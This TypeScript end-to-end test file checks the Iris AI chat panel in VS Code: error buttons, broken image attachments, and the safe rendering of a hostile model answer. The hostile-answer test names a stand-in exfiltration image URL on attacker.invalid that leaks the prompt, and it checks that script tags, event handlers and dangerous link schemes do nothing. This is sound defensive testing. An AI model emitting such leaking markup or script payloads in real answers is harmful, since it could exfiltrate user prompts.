/* What goes wrong, where VS Code has a part in it: the buttons below an answer, hostile answers, broken files. What else does: test/panel. */
import assert from "node:assert/strict";
import { copyFile, rm, symlink, truncate } from "node:fs/promises";
import { join } from "node:path";
import { after, before, beforeEach, describe, test } from "node:test";
import { fullTest } from "../strength.ts";
import { explorerItem, openContextMenu, runCommand } from "../vscode/browser.ts";
import { expand, newConversation, startIris, type Iris, type Window } from "./iris.ts";

describe("what goes wrong", () => {
  let iris: Iris;
  let window: Window;

  before(async () => {
    iris = await startIris({
      settings: { "explorer.autoReveal": false, "workbench.reduceMotion": "on" },
    });
    iris.endpoint.setPace({ delayMs: 0 });
    await brokenFiles(iris.workspace);
    window = await iris.open({ theme: "dark" });
    await expand(window.page, "images", "quarterly-chart.png");
  });

  after(() => iris.stop());

  beforeEach(async () => {
    iris.endpoint.use("default");
    await newConversation(window);
    iris.endpoint.clear();
  });

  test("the buttons do what they say", async () => {
    const { page, panel } = window;
    const { endpoint } = iris;
    endpoint.use("html-200");
    await panel.ask("One with buttons");
    const answer = panel.answers.last();
    await answer.getByText("The response was a web page instead of an answer").waitFor();
    await answer.getByRole("button", { name: "Open Settings" }).click();
    await page.locator('.settings-editor [data-key="iris.endpoint"]').waitFor();
    await runCommand(page, "View: Close All Editors");
    await answer.getByRole("button", { name: "Show Log" }).click();
    await page.locator(".output-view").getByText("badReply").first().waitFor();
    await runCommand(page, "View: Hide Panel");
    endpoint.use("envelope-400");
    await answer.getByRole("button", { name: "Retry", exact: true }).click();
    await answer.getByText(/^The service rejected the request: “/).waitFor();
    await answer.getByRole("button", { name: "Select Model…" }).click();
    await page
      .locator(".quick-input-widget")
      .getByText("gemini-2.5-flash-lite", { exact: true })
      .waitFor();
    await page.keyboard.type("2.5-flash-lite");
    await page.keyboard.press("Enter");
    await panel.button(/^Model: gemini-2\.5-flash-lite/).waitFor();
    endpoint.use("default");
    endpoint.clear();
    assert.match(await retry(window), /One with buttons/);
    const { model } = endpoint.requests.at(-1)!.body as { model: string };
    assert.equal(model, "gemini:gemini-2.5-flash-lite");
    await panel.button(/^Model: /).click();
    await page
      .locator(".quick-input-widget")
      .getByText("gemini-2.5-pro", { exact: true })
      .waitFor();
    await page.keyboard.type("gemini-2.5-flash");
    await page.keyboard.press("Enter");
    await panel.button(/^Model: gemini-2\.5-flash\./).waitFor();

    endpoint.use("envelope-401");
    await panel.ask("One more with buttons");
    await panel.answers.last().getByRole("button", { name: "Set API Key…" }).click();
    const box = page.locator(".quick-input-widget input[type=password]");
    await box.waitFor();
    await page.keyboard.press("Escape");
    await box.waitFor({ state: "hidden" });
  });

  test("a hostile answer is text: it runs nothing, loads nothing, and its links show where they go", async () => {
    const { page, panel } = window;
    const hosts = new Set<string>();
    const dialogs: string[] = [];
    page.on("request", (request) => {
      const { protocol, host } = new URL(request.url());
      if (protocol.startsWith("http") || protocol.startsWith("ws")) hosts.add(host);
    });
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    iris.endpoint.use("hostile");
    await panel.ask("Be hostile");
    await panel.answered();
    const answer = panel.answers.last();
    await answer.getByRole("heading", { name: "A hostile answer" }).waitFor();
    await window.screenshot("hostile");

    assert.equal(
      await answer
        .locator("script, img, svg, iframe, style, base, meta, form, object, embed")
        .count(),
      0,
    );
    assert.equal(await answer.locator("[onerror], [onload], [onclick]").count(), 0);
    await answer.getByText("<script>document.title", { exact: false }).first().waitFor();
    await answer
      .getByText("Image not loaded: remote image (https://attacker.invalid/pixel.png?leak=prompt)")
      .waitFor();

    const links = answer.locator(".markdown a");
    const found = await links.evaluateAll((all) =>
      all.map((link) => [link.textContent, link.getAttribute("href"), link.getAttribute("title")]),
    );
    assert.deepEqual(
      found.filter(([, href]) => !href?.startsWith("https://attacker.invalid/")),
      [["honest link", "https://example.com/", "https://example.com/"]],
    );
    // Whole addresses are links too, and say where they go.
    for (const [, href, title] of found) assert.equal(title, href);
    for (const name of ["script link", "data link", "command link", "editor link", "file link"])
      await answer.getByText(name).first().click();
    const question = page.getByRole("dialog").filter({ hasText: "https://example.com/" });
    assert.equal(await page.getByRole("dialog").count(), 0);
    await links.filter({ hasText: "honest link" }).click();
    await question.waitFor();
    assert.equal(await page.getByRole("dialog").count(), 1);
    await question.getByRole("button", { name: "Cancel" }).click();
    // Asked once, not once by Iris and once by VS Code.
    await question.waitFor({ state: "hidden" });
    await panel.input.click();
    assert.equal(await page.getByRole("dialog").count(), 0);

    assert.deepEqual(dialogs, []);
    // Iris's own files come from a host that VS Code itself answers for.
    const own = /^vscode-remote\+.*\.vscode-resource\.vscode-cdn\.net$/;
    assert.deepEqual(
      [...hosts].filter((host) => host !== new URL(page.url()).host && !own.test(host)),
      [],
    );
    assert.ok(!(await page.title()).includes("owned"));
    assert.ok(!(await panel.frame.locator("title").allTextContents()).join("").includes("owned"));
    assert.equal(await page.locator(".terminal").count(), 0);
  });

  fullTest(
    "files that cannot be sent: a sentence each, to be dismissed, and the good one goes",
    async () => {
      const { page, panel } = window;
      const { workspace, endpoint } = iris;
      const broken = join(workspace, "images/broken");
      await expand(page, "broken", "empty.png");
      await explorerItem(page, "good.png").click();
      const bad = {
        "empty.png": "empty.png is empty. Attach another image.",
        "gone.png": "gone.png was not found. It may have been moved or deleted.",
        "huge.png": "huge.png is larger than 50 MB. Save it smaller, then attach it again.",
        "locked.png": "locked.png cannot be read. Check its permissions.",
        "not-an-image.png": "not-an-image.png is not an image that Iris can read.",
        "truncated.jpg":
          "truncated.jpg is damaged or incomplete. Open it to check, or save it again.",
        "truncated.png":
          "truncated.png is damaged or incomplete. Open it to check, or save it again.",
      };
      for (const name of Object.keys(bad))
        await explorerItem(page, name).click({ modifiers: ["ControlOrMeta"] });
      const menu = await openContextMenu(explorerItem(page, "good.png"));
      // While the menu is open one file goes, and one becomes a link to itself, which nobody can read.
      await rm(join(broken, "gone.png"));
      await rm(join(broken, "locked.png"));
      await symlink("locked.png", join(broken, "locked.png"));
      await menu.choose("Ask About Image…");

      await panel.button(/^Open good\.png/).waitFor();
      await panel.alerts.nth(Object.keys(bad).length - 1).waitFor();
      await window.screenshot("notices");
      assert.deepEqual(
        (await panel.alerts.allInnerTexts()).map(oneLine).sort(),
        Object.values(bad),
      );
      assert.equal(await panel.attached.count(), 1);

      await panel.ask("And the good one?");
      assert.match(await panel.answered(), /1400 × 840/);
      assert.equal(endpoint.requests.at(-1)?.images.length, 1);
      for (let left = Object.keys(bad).length; left > 0; left--) {
        assert.equal(await panel.alerts.count(), left);
        await panel.alerts.first().getByRole("button", { name: "Dismiss" }).click();
        await panel.alerts.nth(left - 1).waitFor({ state: "detached" });
      }
      // VS Code's preview would look for the size of an image that goes with the next file's beginning.
      await runCommand(page, "View: Close All Editors");
    },
  );

  test("nothing went wrong that was not meant to", () => {
    assert.deepEqual(window.errors, []);
  });
});

/** Tries the last question again, and returns the answer. */
async function retry({ panel }: Window): Promise<string> {
  const button = panel.answers.last().getByRole("button", { name: "Retry", exact: true });
  await button.click();
  // It goes when the new answer begins; the old one's end must not be taken for the new one's.
  await button.waitFor({ state: "detached" });
  return panel.answered();
}

function oneLine(text: string): string {
  return text.replace(/\s+/g, " ").trim();
}

/** Beside the broken files of the sample workspace: a good one, and those that become bad later. */
async function brokenFiles(workspace: string): Promise<void> {
  const broken = join(workspace, "images/broken");
  const chart = join(workspace, "images/quarterly-chart.png");
  for (const name of ["good.png", "gone.png", "locked.png", "huge.png"])
    await copyFile(chart, join(broken, name));
  // 60 MB on paper, and hardly any on the disk.
  await truncate(join(broken, "huge.png"), 60_000_000);
}
